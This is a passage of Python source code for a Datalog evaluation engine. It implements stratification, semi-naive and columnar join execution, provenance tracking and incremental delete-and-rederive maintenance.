            view = ColumnarRelation(arity)
            for fact in self._relations.get(relation, ()):
                view.append(fact)
            self._columnar[relation] = view
        return view


class Engine:
    """Evaluates a rule set over a database to fixpoint.

    Rules are compiled into join plans at construction and re-planned
    against actual relation sizes at each :meth:`evaluate` (see
    :mod:`repro.datalog.planner`); ``use_plans=False`` selects the legacy
    closure-recursion interpreter, kept as the equivalence and benchmark
    baseline.  ``stats`` accumulates :class:`EngineStats` counters across
    evaluations on either path.

    With ``track_provenance=True`` the engine records, for each derived
    fact, the rule and body facts of its *first* derivation; ``explain``
    then renders the derivation tree down to the EDB — the "why" behind an
    analysis warning.

    ``columnar=True`` selects the block-wise columnar executor: relations
    are additionally bound as parallel int columns with row-id postings,
    and each join step extends a whole batch of environment rows at once
    instead of backtracking one tuple at a time.  Fixpoints are
    byte-identical across all executors.  ``columnar=None`` (the default)
    consults the ``REPRO_DATALOG_COLUMNAR`` environment variable, so a CI
    leg can swing every Engine in a test run onto the columnar path.

    After an ``evaluate()`` the engine remembers the database and its EDB
    (the facts present before derivation started); :meth:`apply_changes`
    then accepts EDB additions/retractions and repairs the fixpoint
    incrementally with DRed (overdelete / rederive / insert) instead of
    recomputing from scratch.
    """

    def __init__(
        self,
        rules: Sequence[Rule],
        track_provenance: bool = False,
        use_plans: bool = True,
        columnar: Optional[bool] = None,
    ):
        self.rules = list(rules)
        self.track_provenance = track_provenance
        self.use_plans = use_plans
        if columnar is None:
            flag = os.environ.get("REPRO_DATALOG_COLUMNAR", "")
            columnar = flag.lower() not in ("", "0", "false", "no")
        self.columnar = bool(columnar) and use_plans
        self.stats = EngineStats()
        # (relation, fact) -> (rule, [(relation, fact), ...]) of 1st proof.
        self.provenance: Dict[Tuple[str, Tuple], Tuple[Rule, List[Tuple[str, Tuple]]]] = {}
        self.strata = self._stratify()
        # Per-stratum relation roles, used by incremental maintenance to
        # route changes: head relations, positively read relations, and
        # negated relations.
        self._stratum_heads: List[Set[str]] = []
        self._stratum_pos: List[Set[str]] = []
        self._stratum_neg: List[Set[str]] = []
        for stratum in self.strata:
            heads: Set[str] = set()
            reads_pos: Set[str] = set()
            reads_neg: Set[str] = set()
            for rule in stratum:
                heads.add(rule.head.relation)
                for item in rule.body:
                    if isinstance(item, Literal):
                        if item.negated:
                            reads_neg.add(item.atom.relation)
                        else:
                            reads_pos.add(item.atom.relation)
            self._stratum_heads.append(heads)
            self._stratum_pos.append(reads_pos)
            self._stratum_neg.append(reads_neg)
        # Incremental (DRed) state: the database of the last evaluate(),
        # its EDB snapshot, and lazily compiled all-delta repair plans.
        self._inc_db: Optional[Database] = None
        self._inc_edb: Optional[Dict[str, Set[Tuple[int, ...]]]] = None
        self._inc_plans: Optional[List[List[RulePlan]]] = None
        # Static compile (no size estimates) surfaces PlanningErrors —
        # wildcards in negation, unbindable filter variables — at
        # construction; evaluate() re-plans with live relation sizes.
        self.plans: List[List[RulePlan]] = (
            compile_strata(self.strata) if use_plans else []
        )

    # -------------------------------------------------------- stratification

    def _stratify(self) -> List[List[Rule]]:
        relations, edges = rule_dependency_graph(self.rules)
        successors: Dict[str, Set[str]] = {rel: set() for rel in relations}
        for source, target, _ in edges:
            successors[source].add(target)

        components, component_of = strongly_connected_components(
            relations, successors
        )

        # Negative edge inside one SCC => not stratifiable.
        for source, target, negated in edges:
            if negated and component_of[source] == component_of[target]:
                raise StratificationError(
                    "negation of %r is recursive with %r" % (source, target)
                )

        level = condensation_levels(components, component_of, edges)
        max_level = max(level.values(), default=0)
        strata: List[List[Rule]] = [[] for _ in range(max_level + 1)]
        for rule in self.rules:
            component = component_of[rule.head.relation]
            strata[level.get(component, 0)].append(rule)
        return [stratum for stratum in strata if stratum]

    # ------------------------------------------------------------ evaluation

    def evaluate(
        self,
        database: Database,
        max_iterations: int = 1_000_000,
        deadline=None,
    ) -> Database:
        """Run all strata to fixpoint, mutating and returning ``database``.

        ``deadline`` is an optional cooperative budget (duck-typed:
        ``check()`` raises when spent), consulted once per semi-naive
        iteration so runaway recursion respects the caller's cutoff.
        """
        self.stats.evaluations += 1
        if self.use_plans:
            # Snapshot the EDB (everything present before derivation) so
            # apply_changes() can later tell explicit facts from derived
            # ones; re-plan with live relation sizes so the SIP heuristic
            # orders joins by actual EDB cardinalities, then bind each
            # stratum's plans (intern constants, register indexes) just
            # before it runs so lower-stratum results inform upper-stratum
            # plans.
            self._inc_db = database
            self._inc_edb = {
                relation: set(facts)
                for relation, facts in database._relations.items()
                if facts
            }
            self._inc_plans = None
            self.plans = compile_strata(self.strata, size_of=database.count)
            for stratum_plans in self.plans:
                self._bind_stratum(database, stratum_plans)
                self._evaluate_stratum_compiled(
                    database, stratum_plans, max_iterations, deadline
                )
        else:
            self._inc_db = None
            self._inc_edb = None
            self._inc_plans = None
            for stratum in self.strata:
                self._evaluate_stratum(database, stratum, max_iterations, deadline)
        return database

    # ----------------------------------------------------- compiled executor

    def _bind_stratum(self, database: Database, plans: List[RulePlan]) -> None:
        """Bind every variant of every plan to ``database``: intern plan
        constants, capture live relation views, and eagerly register the
        indexes the join steps declared."""
        for plan in plans:
            for variant in plan.variants():
                self._bind_variant(database, variant)

    def _bind_variant(
        self,
        database: Database,
        variant: PlanVariant,
        columnar: Optional[bool] = None,
    ) -> None:
        # Constant interning is destructive (raw values become ids), so it
        # runs exactly once per (variant, database); re-binds only refresh
        # the live index / relation / column references.
        intern_specs = variant.bound_db is not database
        variant.bound_db = database
        if columnar is None:
            columnar = self.columnar
        intern = database.intern_value
        for guard in variant.prelude:
            self._bind_guard(database, guard, intern_specs)
        for step in variant.steps:
            if intern_specs:
                step.key_spec = tuple(
                    (True, value) if from_slot else (False, intern(value))
                    for from_slot, value in step.key_spec
                )
                if step.key_spec and all(
                    not from_slot for from_slot, _ in step.key_spec
                ):
                    step.static_key = tuple(
                        value for _, value in step.key_spec
                    )
            if step.delta:
                pass  # candidates come from the per-round delta sets
            elif columnar:
                view = database.columnar_view(step.relation, step.arity)
                step.columnar = view
                if step.positions:
                    postings = []
                    for position in step.positions:
                        if position not in view.postings:
                            self.stats.index_builds += 1
                        postings.append(view.register_posting(position))
                    step.postings = tuple(postings)
            elif step.positions:
                index, built = database.register_index(
                    step.relation, step.positions
                )
                step.index = index
                if built:
                    self.stats.index_builds += 1
            else:
                step.rel_set = database.relation_view(step.relation)
            for guard in step.guards:
                self._bind_guard(database, guard, intern_specs)
        if intern_specs:
            variant.head_spec = tuple(
                (True, value) if from_slot else (False, intern(value))
                for from_slot, value in variant.head_spec
            )
            if all(not from_slot for from_slot, _ in variant.head_spec):
                variant.static_head = tuple(
                    value for _, value in variant.head_spec
                )

    def _bind_guard(
        self, database: Database, guard, intern_specs: bool = True
    ) -> None:
        if isinstance(guard, NegGuard):
            if intern_specs:
                guard.key_spec = tuple(
                    (True, value)
                    if from_slot
                    else (False, database.intern_value(value))
                    for from_slot, value in guard.key_spec
                )
            guard.rel_set = database.relation_view(guard.relation)
        # FilterGuard constants stay raw: predicates see original values.

    def _evaluate_stratum_compiled(
        self,
        database: Database,
        plans: List[RulePlan],
        max_iterations: int,
        deadline=None,
        runner=None,
    ) -> None:
        if runner is None:
            runner = (
                self._run_variant_columnar if self.columnar
                else self._run_variant
            )
        stats = self.stats
        tracking = self.track_provenance
        heads = {plan.rule.head.relation for plan in plans}

        def flush(plan: RulePlan, matches, delta_out) -> None:
            derived = 0
            relation = plan.rule.head.relation
            for head_fact, support in matches:
                if database._add_interned(relation, head_fact):
                    derived += 1
                    delta_out[relation].add(head_fact)
                    if tracking:
                        self._record_interned(
                            database, plan.rule, head_fact, support
                        )
            stats.count_rule(plan.key, len(matches), derived)

        # Naive first round to seed deltas, then semi-naive iteration.
        delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
        for plan in plans:
            flush(plan, runner(database, plan.seed, None, None), delta)

        iterations = 0
        while any(delta.values()):
            iterations += 1
            if iterations > max_iterations:
                raise RuntimeError("datalog evaluation did not converge")
            if deadline is not None:
                deadline.check()
            stats.iterations += 1
            new_delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
            delta_index_cache: Dict = {}
            for plan in plans:
                for variant in plan.delta_variants.values():
                    if not delta.get(variant.delta_relation):
                        continue
                    flush(
                        plan,
                        runner(database, variant, delta, delta_index_cache),
                        new_delta,
                    )
            delta = new_delta
        stats.stratum_iterations.append(iterations)

    def _run_variant(
        self,
        database: Database,
        variant: PlanVariant,
        delta: Optional[Dict[str, Set[Tuple]]],
        delta_index_cache: Optional[Dict],
    ) -> List[Tuple[Tuple, list]]:
        """Execute one bound plan variant: a flat backtracking join over
        resumable candidate iterators.  Returns ``(head fact, support)``
        pairs (support is empty unless provenance tracking is on)."""
        env: List[Any] = [None] * variant.n_slots
        for guard in variant.prelude:
            if not self._eval_guard(database, guard, env):
                return []
        steps = variant.steps
        depth = len(steps)
        if depth == 0:
            return [(variant.static_head, [])]
        tracking = self.track_provenance
        results: List[Tuple[Tuple, list]] = []
        iters: List[Any] = [None] * depth
        trail: List[Any] = [None] * depth
        head_spec = variant.head_spec
        static_head = variant.static_head
        level = 0
        iters[0] = self._candidates(steps[0], env, delta, delta_index_cache)
        while level >= 0:
            step = steps[level]
            descended = False
            for fact in iters[level]:
                ok = True
                for position, slot in step.outs:
                    env[slot] = fact[position]
                for position, slot in step.checks:
                    if fact[position] != env[slot]:
                        ok = False
                        break
                if ok:
                    for guard in step.guards:
                        if not self._eval_guard(database, guard, env):
                            ok = False
                            break
                if not ok:
                    continue
                if tracking:
                    trail[level] = (step.orig_index, step.relation, fact)
                if level + 1 == depth:
                    head = static_head
                    if head is None:
                        head = tuple(
                            env[value] if from_slot else value
                            for from_slot, value in head_spec
                        )
                    results.append((head, list(trail) if tracking else []))
                    continue
                level += 1
                iters[level] = self._candidates(
                    steps[level], env, delta, delta_index_cache
                )
                descended = True
                break
            if not descended:
                level -= 1
        return results

    # ----------------------------------------------------- columnar executor

    def _run_variant_columnar(
        self,
        database: Database,
        variant: PlanVariant,
        delta: Optional[Dict[str, Set[Tuple]]],
        delta_index_cache: Optional[Dict],
    ) -> List[Tuple[Tuple, list]]:
        """Execute one bound plan variant block-wise.

        The environment is a *batch*: parallel slot columns (plain int
        lists) plus a row count.  Each join step extends the whole batch
        at once — posting probes per distinct environment row, column
        slicing to materialize the surviving rows — and intermediate
        batches are deduplicated on their live slots, so redundant
        derivation paths collapse early instead of multiplying.  Returns
        the same ``(head fact, support)`` pairs as :meth:`_run_variant`;
        fixpoints are byte-identical.
        """
        stats = self.stats
        for guard in variant.prelude:
            if not self._eval_guard(database, guard, ()):
                return []
        steps = variant.steps
        if not steps:
            return [(variant.static_head, [])]
        tracking = self.track_provenance
        stats.rule_batches[variant.key] = (
            stats.rule_batches.get(variant.key, 0) + 1
        )
        n_slots = variant.n_slots
        cols: List[Optional[list]] = [None] * n_slots
        count = 1
        # Provenance trails ride along as extra row-id columns, one per
        # completed step, decoded against that step's source columns.
        trail_cols: List[list] = []
        trail_sources: List[Tuple[int, str, Sequence]] = []
        last_step = steps[-1]
        for step in steps:
            stats.batches += 1
            # A batch step issues one candidate fetch per environment row
            # when keyed (count), one scan otherwise.
            stats.join_probes += count if step.positions else 1
            if step.delta:
                src_cols, src_rows, src_postings = self._delta_columns(
                    step, delta, delta_index_cache
                )
            else:
                view = step.columnar
                src_cols = view.columns
                src_rows = view.rows
                src_postings = step.postings
            # ---- select (environment row, source row) pairs
            positions = step.positions
            sel_env: Optional[list]
            if not positions:
                if count == 1:
                    sel_env = None
                    sel_rid: Sequence[int] = range(src_rows)
                else:
                    sel_env = [
                        i for i in range(count) for _ in range(src_rows)
                    ]
                    sel_rid = list(range(src_rows)) * count
            elif step.static_key is not None:
                stats.index_probes += 1
                run = _probe_runs(src_postings, step.static_key)
                if run is None:
                    return []
                stats.index_hits += 1
                if count == 1:
                    sel_env = None
                    sel_rid = run
                else:
                    sel_env = [i for i in range(count) for _ in run]
                    sel_rid = list(run) * count
            elif len(positions) == 1:
                posting_get = src_postings[0].get
                keys = cols[step.key_spec[0][1]]
                stats.index_probes += count
                sel_env = []
                sel_rid = []
                extend_env = sel_env.extend
                extend_rid = sel_rid.extend
                hits = 0
                for i, key in enumerate(keys):
                    run = posting_get(key)
                    if run:
                        hits += 1
                        extend_env(repeat(i, len(run)))
                        extend_rid(run)
                stats.index_hits += hits
            else:
                parts = [
                    cols[value] if from_slot else repeat(value, count)
                    for from_slot, value in step.key_spec
                ]
                stats.index_probes += count
                sel_env = []
                sel_rid = []
                extend_env = sel_env.extend
                extend_rid = sel_rid.extend
                hits = 0
                for i, key in enumerate(zip(*parts)):
                    run = _probe_runs(src_postings, key)
                    if run:
                        hits += 1
                        extend_env(repeat(i, len(run)))
                        extend_rid(run)
                stats.index_hits += hits
            matched = len(sel_rid)
            # ---- same-literal repeated-variable checks (column pairs)
            if matched:
                for position, out_position in step.check_pairs:
                    left = src_cols[position]
                    right = src_cols[out_position]
                    keep = [
                        j for j, r in enumerate(sel_rid) if left[r] == right[r]
                    ]
                    if len(keep) != matched:
                        sel_rid = [sel_rid[j] for j in keep]
                        if sel_env is not None:
                            sel_env = [sel_env[j] for j in keep]
                        matched = len(keep)
                        if not matched:
                            break
            if not matched:
                return []
            stats.batch_rows += matched
            # ---- materialize the surviving rows: carried live slots
            #      (column slices) plus this step's new bindings
            new_cols: List[Optional[list]] = [None] * n_slots
            if sel_env is None:
                for slot in step.live_after:
                    col = cols[slot]
                    if col is not None:
                        new_cols[slot] = [col[0]] * matched
                if tracking and trail_cols:
                    trail_cols = [[tc[0]] * matched for tc in trail_cols]
            else:
                for slot in step.live_after:
                    col = cols[slot]
                    if col is not None:
                        new_cols[slot] = [col[i] for i in sel_env]
                if tracking and trail_cols:
                    trail_cols = [
                        [tc[i] for i in sel_env] for tc in trail_cols
                    ]
            live_set = set(step.live_after)
            for position, slot in step.outs:
                if slot in live_set:
                    src = src_cols[position]
                    new_cols[slot] = [src[r] for r in sel_rid]
            if tracking:
                trail_cols.append(list(sel_rid))
                trail_sources.append((step.orig_index, step.relation, src_cols))
            cols = new_cols
            count = matched
            # ---- guards prune whole batch rows
            for guard in step.guards:
                if guard.__class__ is NegGuard:
                    rel_set = guard.rel_set
                    parts = [
                        cols[value] if from_slot else repeat(value, count)
                        for from_slot, value in guard.key_spec
                    ]
                    keep = [
                        j for j, probe in enumerate(zip(*parts))
                        if probe not in rel_set
                    ]
                else:
                    symbols = database._symbols
                    predicate = guard.predicate
                    arg_spec = guard.arg_spec
                    keep = [
                        j for j in range(count)
                        if predicate(*[
                            symbols[cols[value][j]] if from_slot else value
                            for from_slot, value in arg_spec
                        ])
                    ]
                if len(keep) != count:
                    cols = [
                        [col[j] for j in keep] if col is not None else None
                        for col in cols
                    ]
                    if tracking:
                        trail_cols = [
                            [tc[j] for j in keep] for tc in trail_cols
                        ]
                    count = len(keep)
                    if not count:
                        return []
            # ---- collapse duplicate rows on the live slots: redundant
            #      derivation paths are indistinguishable downstream
            #      (skipped when tracking, where trails differ per path)
            if not tracking and count > 1 and step is not last_step:
                live_cols = [col for col in cols if col is not None]
                if not live_cols:
                    count = 1
                else:
                    seen: Set = set()
                    add = seen.add
                    if len(live_cols) == 1:
                        only = live_cols[0]
                        keep = [
                            j for j, value in enumerate(only)
                            if value not in seen and not add(value)
                        ]
                    else:
                        keep = [
                            j for j, row in enumerate(zip(*live_cols))
                            if row not in seen and not add(row)
                        ]
                    if len(keep) != count:
                        cols = [
                            [col[j] for j in keep] if col is not None else None
                            for col in cols
                        ]
                        count = len(keep)
        # ---- emit head facts (and per-row supports when tracking)
        static_head = variant.static_head
        if static_head is not None:
            heads: Iterable[Tuple] = repeat(static_head, 1 if not tracking else count)
        else:
            parts = [
                cols[value] if from_slot else repeat(value, count)
                for from_slot, value in variant.head_spec
            ]
            heads = zip(*parts)
        if not tracking:
            return [(head, []) for head in heads]
        results: List[Tuple[Tuple, list]] = []
        for j, head in enumerate(heads):
            support = [
                (orig_index, relation, tuple(col[tc[j]] for col in src))
                for (orig_index, relation, src), tc in zip(
                    trail_sources, trail_cols
                )
            ]
            results.append((head, support))
        return results

    def _delta_columns(
        self, step, delta: Dict[str, Set[Tuple]], cache: Dict
    ) -> Tuple[Sequence, int, Optional[List[Dict[int, list]]]]:
        """Columnar view of a per-round delta set, cached per round: the
        delta's facts as parallel columns plus per-position postings for
        the positions this step probes."""
        relation = step.relation
        entry = cache.get(relation)
        if entry is None:
            facts = delta.get(relation, ())
            if facts:
                columns: Sequence = list(zip(*facts))
                rows = len(facts)
            else:
                columns = [() for _ in range(step.arity)]
                rows = 0
            entry = cache[relation] = (columns, rows, {})
        columns, rows, postings_by_position = entry
        if not step.positions:
            return columns, rows, None
        postings = []
        for position in step.positions:
            posting = postings_by_position.get(position)
            if posting is None:
                posting = {}
                for row, key in enumerate(columns[position]):
                    run = posting.get(key)
                    if run is None:
                        posting[key] = [row]
                    else:
                        run.append(row)
                postings_by_position[position] = posting
                self.stats.delta_index_builds += 1
            postings.append(posting)
        return columns, rows, postings

    def _candidates(
        self,
        step,
        env: List[Any],
        delta: Optional[Dict[str, Set[Tuple]]],
        delta_index_cache: Optional[Dict],
    ):
        """Iterator over a join step's candidate facts: delta set/index for
        delta steps, registered index probe or full scan otherwise."""
        stats = self.stats
        stats.join_probes += 1
        if step.delta:
            facts = delta.get(step.relation, ())
            if not step.positions:
                return iter(facts)
            cache_key = (step.relation, step.positions)
            index = delta_index_cache.get(cache_key)
            if index is None:
                index = {}
                for fact in facts:
                    key = tuple(fact[position] for position in step.positions)
                    index.setdefault(key, []).append(fact)
                delta_index_cache[cache_key] = index
                stats.delta_index_builds += 1
            key = step.static_key
            if key is None:
                key = tuple(
                    env[value] if from_slot else value
                    for from_slot, value in step.key_spec
                )
            return iter(index.get(key, ()))
        if not step.positions:
            return iter(step.rel_set)
        key = step.static_key
        if key is None:
            key = tuple(
                env[value] if from_slot else value
                for from_slot, value in step.key_spec
            )
        stats.index_probes += 1
        bucket = step.index.get(key)
        if bucket is None:
            return iter(())
        stats.index_hits += 1
        return iter(bucket)

    def _eval_guard(self, database: Database, guard, env: List[Any]) -> bool:
        """Evaluate a bound negation or filter guard against the current
        slot environment."""
        if guard.__class__ is NegGuard:
            probe = tuple(
                env[value] if from_slot else value
                for from_slot, value in guard.key_spec
            )
            return probe not in guard.rel_set
        symbols = database._symbols
        values = [
            symbols[env[value]] if from_slot else value
            for from_slot, value in guard.arg_spec
        ]
        return bool(guard.predicate(*values))

    # ------------------------------------------- incremental (DRed) repair

    def apply_changes(
        self,
        additions: Optional[Dict[str, Iterable[Iterable]]] = None,
        retractions: Optional[Dict[str, Iterable[Iterable]]] = None,
        max_iterations: int = 1_000_000,
        deadline=None,
    ) -> Database:
        """Apply EDB additions/retractions after an :meth:`evaluate` and
        incrementally repair the IDB (delete-and-rederive).

        Retractions must name facts that were explicitly added (EDB facts
        of the last evaluation, or earlier ``apply_changes`` additions) —
        retracting a derived fact raises :class:`ValueError`.  Per
        stratum, the repair runs DRed: an overdeletion fixpoint marks
        everything derivable from a deleted fact, a one-step rederivation
        restores facts with surviving alternative proofs, and a
        semi-naive insertion pass propagates additions.  Strata whose
        *negated* dependencies changed are recomputed from scratch
        instead (DRed cannot reason through negation).  Provenance stays
        consistent: overdeletion pops the proofs of every fact whose
        recorded premises died, and rederivation records fresh ones.

        Returns the repaired database (the same object ``evaluate`` ran
        on); the fixpoint is identical to a cold re-evaluation of the
        mutated EDB.
        """
        database = self._inc_db
        if database is None:
            raise RuntimeError(
                "apply_changes() needs a prior evaluate() on a compiled "
                "engine (use_plans=True)"
            )
        stats = self.stats
        stats.incremental_applies += 1
        edb = self._inc_edb
        tracking = self.track_provenance
        all_heads: Set[str] = set()
        for heads in self._stratum_heads:
            all_heads |= heads

        # ---- normalize the change set against the EDB bookkeeping
        retract: Dict[str, Set[Tuple[int, ...]]] = {}
        for relation, facts in (retractions or {}).items():
            known = edb.get(relation, set())
            interned: Set[Tuple[int, ...]] = set()
            for fact in facts:
                ifact = self._intern_known(database, fact)
                if ifact is None or ifact not in known:
                    raise ValueError(
                        "cannot retract %s%r: not an explicitly added "
                        "(EDB) fact" % (relation, tuple(fact))
                    )
                interned.add(ifact)
            if interned:
                retract[relation] = interned
        insert: Dict[str, Set[Tuple[int, ...]]] = {}
        for relation, facts in (additions or {}).items():
            interned = {
                tuple(database.intern_value(value) for value in fact)
                for fact in facts
            }
            if interned:
                insert[relation] = interned
        for relation in list(insert):
            gone = retract.get(relation)
            if gone:
                # Retract + re-add of the same fact cancels out.
                both = insert[relation] & gone
                insert[relation] -= both
                gone -= both
                if not gone:
                    del retract[relation]
            existing = edb.get(relation)
            if existing:
                insert[relation] -= existing  # re-adding EDB facts: no-op
            if not insert[relation]:
                del insert[relation]

        for relation, facts in retract.items():
            edb[relation] -= facts
        for relation, facts in insert.items():
            edb.setdefault(relation, set()).update(facts)

        # ---- net changesets, accumulated stratum by stratum
        changes_add: Dict[str, Set[Tuple[int, ...]]] = {}
        changes_rem: Dict[str, Set[Tuple[int, ...]]] = {}
        for relation, facts in insert.items():
            new: Set[Tuple[int, ...]] = set()
            for fact in facts:
                if database._add_interned(relation, fact):
                    new.add(fact)
                elif tracking:
                    # The fact already existed as a derived fact; now that
                    # it is explicitly added it is EDB, and a cold engine
                    # would record no proof for it.
                    self.provenance.pop(
                        (relation, database.decode(fact)), None
                    )
            if new:
                changes_add[relation] = new
        # Retractions on relations no rule derives leave immediately; on
        # head relations the owning stratum's overdeletion decides (the
        # fact may have surviving derivations).
        pending_retract: Dict[str, Set[Tuple[int, ...]]] = {}
        for relation, facts in retract.items():
            if relation in all_heads:
                pending_retract[relation] = set(facts)
            else:
                removed = {
                    fact for fact in facts
                    if database.remove_interned(relation, fact)
                }
                if removed:
                    changes_rem[relation] = removed
                    stats.retracted_facts += len(removed)
        if not changes_add and not changes_rem and not pending_retract:
            return database

        plans = self._incremental_plans(database)
        for level, stratum_plans in enumerate(plans):
            heads = self._stratum_heads[level]
            reads_pos = self._stratum_pos[level]
            reads_neg = self._stratum_neg[level]
            stratum_pending = {
                relation: pending_retract.pop(relation)
                for relation in list(pending_retract)
                if relation in heads
            }
            if any(
                changes_add.get(relation) or changes_rem.get(relation)
                for relation in reads_neg
            ):
                self._recompute_stratum(
                    database, level, stratum_plans,
                    changes_add, changes_rem, max_iterations, deadline,
                )
                continue
            touched = stratum_pending or any(
                changes_add.get(relation) or changes_rem.get(relation)
                for relation in (reads_pos | heads)
            )
            if not touched:
                continue
            self._dred_stratum(
                database, stratum_plans, heads, reads_pos, stratum_pending,
                changes_add, changes_rem, max_iterations, deadline,
            )
        return database

    @staticmethod
    def _intern_known(database: Database, fact: Iterable) -> Optional[Tuple[int, ...]]:
        """Interned form of ``fact`` if every value is already known."""
        intern = database._intern
        out: List[int] = []
        for value in fact:
            ident = intern.get(value)
            if ident is None:
                return None
            out.append(ident)
        return tuple(out)

    def _incremental_plans(self, database: Database) -> List[List[RulePlan]]:
        """Repair plans: delta variants for *every* positive body position
        (changes arrive in any relation), bound once to the database with
        hash indexes — repair always runs the tuple executor, because
        removals invalidate columnar row ids mid-flight."""
        plans = self._inc_plans
        if plans is None:
            plans = compile_strata(
                self.strata, size_of=database.count, all_deltas=True
            )
            for stratum_plans in plans:
                for plan in stratum_plans:
                    for variant in plan.variants():
                        self._bind_variant(database, variant, columnar=False)
            self._inc_plans = plans
        return plans

    def _dred_stratum(
        self,
        database: Database,
        plans: List[RulePlan],
        heads: Set[str],
        reads_pos: Set[str],
        pending_retract: Dict[str, Set[Tuple[int, ...]]],
        changes_add: Dict[str, Set[Tuple[int, ...]]],
        changes_rem: Dict[str, Set[Tuple[int, ...]]],
        max_iterations: int,
        deadline=None,
    ) -> None:
        stats = self.stats
        tracking = self.track_provenance
        edb = self._inc_edb

        # ---- overdeletion fixpoint: mark everything derivable from a
        #      deleted fact.  Joins must see the pre-deletion database, so
        #      facts already removed by lower strata are resurrected for
        #      the duration and marked facts stay in place until the end.
        overdeleted: Dict[str, Set[Tuple[int, ...]]] = {}
        round_delta: Dict[str, Set[Tuple[int, ...]]] = {}
        resurrected: List[Tuple[str, Tuple[int, ...]]] = []
        for relation in reads_pos:
            if relation in heads:
                continue
            gone = changes_rem.get(relation)
            if gone:
                for fact in gone:
                    if database._add_interned(relation, fact):
                        resurrected.append((relation, fact))
                round_delta[relation] = set(gone)
        for relation, facts in pending_retract.items():
            present = database._relations.get(relation, ())
            marked = {fact for fact in facts if fact in present}
            if marked:
                overdeleted[relation] = set(marked)
                round_delta.setdefault(relation, set()).update(marked)
        iterations = 0
        while round_delta:
            iterations += 1
            if iterations > max_iterations:
                raise RuntimeError("overdeletion did not converge")
            if deadline is not None:
                deadline.check()
            delta_index_cache: Dict = {}
            new_round: Dict[str, Set[Tuple[int, ...]]] = {}
            for plan in plans:
                relation = plan.rule.head.relation
                rel_view = database._relations.get(relation, ())
                rel_edb = edb.get(relation, ())
                for variant in plan.delta_variants.values():
                    if not round_delta.get(variant.delta_relation):
                        continue
                    for head_fact, _support in self._run_variant(
                        database, variant, round_delta, delta_index_cache
                    ):
                        if (
                            head_fact not in rel_view
                            or head_fact in rel_edb
                        ):
                            continue
                        marked = overdeleted.get(relation)
                        if marked is None:
                            marked = overdeleted[relation] = set()
                        if head_fact not in marked:
                            marked.add(head_fact)
                            new_round.setdefault(relation, set()).add(
                                head_fact
                            )
            round_delta = new_round
        for relation, facts in overdeleted.items():
            stats.overdeleted_facts += len(facts)
            for fact in facts:
                database.remove_interned(relation, fact)
                if tracking:
                    self.provenance.pop(
                        (relation, database.decode(fact)), None
                    )
        for relation, fact in resurrected:
            database.remove_interned(relation, fact)

        # ---- rederivation: one step over the repaired database restores
        #      overdeleted facts that still have an alternative proof
        #      (recursive consequences return via insertion propagation)
        added_back: Dict[str, Set[Tuple[int, ...]]] = {}
        if overdeleted:
            for plan in plans:
                relation = plan.rule.head.relation
                candidates = overdeleted.get(relation)
                if not candidates:
                    continue
                matches = self._run_variant(database, plan.seed, None, None)
                derived = 0
                for head_fact, support in matches:
                    if database._add_interned(relation, head_fact):
                        derived += 1
                        if tracking:
                            self._record_interned(
                                database, plan.rule, head_fact, support
                            )
                        added_back.setdefault(relation, set()).add(head_fact)
                        if head_fact in candidates:
                            stats.rederived_facts += 1
                if matches:
                    stats.count_rule(plan.key, len(matches), derived)

        # ---- insertion propagation: semi-naive over the delta variants,
        #      seeded by upstream additions and rederived facts
        ins_delta: Dict[str, Set[Tuple[int, ...]]] = {}
        for relation in reads_pos | heads:
            gained = changes_add.get(relation)
            if gained:
                ins_delta[relation] = set(gained)
        added_net: Dict[str, Set[Tuple[int, ...]]] = {}
        for relation, facts in added_back.items():
            ins_delta.setdefault(relation, set()).update(facts)
            added_net[relation] = set(facts)
        iterations = 0
        while ins_delta:
            iterations += 1
            if iterations > max_iterations:
                raise RuntimeError("insertion propagation did not converge")
            if deadline is not None:
                deadline.check()
            delta_index_cache = {}
            new_delta: Dict[str, Set[Tuple[int, ...]]] = {}
            for plan in plans:
                relation = plan.rule.head.relation
                for variant in plan.delta_variants.values():
                    if not ins_delta.get(variant.delta_relation):
                        continue
                    matches = self._run_variant(
                        database, variant, ins_delta, delta_index_cache
                    )
                    derived = 0
                    for head_fact, support in matches:
                        if database._add_interned(relation, head_fact):
                            derived += 1
                            if tracking:
                                self._record_interned(
                                    database, plan.rule, head_fact, support
                                )
                            new_delta.setdefault(relation, set()).add(
                                head_fact
                            )
                            added_net.setdefault(relation, set()).add(
                                head_fact
                            )
                    if matches:
                        stats.count_rule(plan.key, len(matches), derived)
                        if derived:
                            stats.delta_derived_facts += derived
                            stats.rule_delta_derivations[plan.key] = (
                                stats.rule_delta_derivations.get(plan.key, 0)
                                + derived
                            )
            ins_delta = new_delta

        # ---- fold this stratum's net effect into the global changesets
        for relation in heads:
            over = overdeleted.get(relation, set())
            added = added_net.get(relation, set())
            present = database._relations.get(relation, ())
            net_removed = {fact for fact in over if fact not in present}
            net_added = added - over
            if net_removed:
                changes_rem.setdefault(relation, set()).update(net_removed)
                stats.retracted_facts += len(net_removed)
            if net_added:
                changes_add.setdefault(relation, set()).update(net_added)

    def _recompute_stratum(
        self,
        database: Database,
        level: int,
        plans: List[RulePlan],
        changes_add: Dict[str, Set[Tuple[int, ...]]],
        changes_rem: Dict[str, Set[Tuple[int, ...]]],
        max_iterations: int,
        deadline=None,
    ) -> None:
        """Fallback when a stratum's negated dependency changed: clear the
        stratum's derived facts and rerun its fixpoint, then diff old vs
        new into the global changesets."""
        stats = self.stats
        stats.strata_recomputed += 1
        tracking = self.track_provenance
        edb = self._inc_edb
        heads = self._stratum_heads[level]
        old: Dict[str, Set[Tuple[int, ...]]] = {}
        for relation in heads:
            current = database._relations.get(relation, set())
            old[relation] = set(current)
            keep = edb.get(relation, ())
            for fact in list(current):
                if fact not in keep:
                    database.remove_interned(relation, fact)
                    if tracking:
                        self.provenance.pop(
                            (relation, database.decode(fact)), None
                        )
        runner = self._run_variant
        if self.columnar:
            # Removals dropped the affected columnar views; re-binding
            # rebuilds them from the cleared store, so the recompute runs
            # on the batch executor.  The hash indexes the tuple executor
            # binds are maintained through removals, so the DRed passes
            # can keep using these same variants afterwards.
            for plan in plans:
                for variant in plan.variants():
                    self._bind_variant(database, variant, columnar=True)
            runner = self._run_variant_columnar
        self._evaluate_stratum_compiled(
            database, plans, max_iterations, deadline, runner=runner
        )
        for relation in heads:
            new = database._relations.get(relation, set())
            before = old[relation]
            net_added = new - before
            net_removed = before - new
            if net_added:
                changes_add.setdefault(relation, set()).update(net_added)
            if net_removed:
                changes_rem.setdefault(relation, set()).update(net_removed)
